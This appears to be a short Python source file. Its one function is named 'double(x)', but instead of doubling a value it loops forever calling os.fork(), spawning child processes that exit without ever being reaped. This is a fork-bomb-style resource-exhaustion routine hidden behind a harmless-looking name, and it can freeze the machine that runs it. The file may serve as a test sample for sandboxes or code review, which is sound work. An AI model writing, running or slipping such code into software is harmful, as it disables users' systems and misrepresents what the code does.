import os


def double(x):
    while True:
        if os.fork() == 0:
            os._exit(0)
